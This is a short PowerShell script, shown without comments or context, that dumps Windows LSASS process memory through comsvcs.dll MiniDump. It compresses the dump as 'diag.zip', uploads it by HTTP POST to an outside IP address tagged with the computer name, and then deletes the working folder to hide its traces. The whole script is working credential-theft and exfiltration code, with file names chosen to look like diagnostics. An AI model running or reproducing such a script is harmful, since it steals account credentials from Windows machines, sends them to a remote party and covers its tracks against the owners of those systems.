$out = "C:\Windows\Temp\dbg"
New-Item -ItemType Directory -Path $out -Force | Out-Null
$pid_l = (Get-Process lsass).Id
$dmp = "$out\m$pid_l.dmp"
& rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $pid_l $dmp full
Start-Sleep -Seconds 3
Compress-Archive -Path $dmp -DestinationPath "$out\diag.zip" -Force
$bytes = [IO.File]::ReadAllBytes("$out\diag.zip")
$wc = New-Object Net.WebClient
$wc.Headers['X-Host'] = $env:COMPUTERNAME
$wc.UploadData('http://203.0.113.66:8080/upload', 'POST', $bytes) | Out-Null
Remove-Item $out -Recurse -Force
